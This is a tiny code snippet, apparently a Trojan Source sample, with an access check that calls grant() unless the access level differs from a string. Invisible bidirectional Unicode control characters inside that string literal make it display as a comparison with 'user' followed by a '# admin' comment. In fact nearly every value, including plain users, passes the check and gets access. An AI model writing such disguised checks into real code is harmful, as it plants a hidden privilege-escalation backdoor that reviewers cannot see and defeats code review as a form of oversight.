if access_level != "user‮ ⁦# admin⁩ ⁦":
    grant()
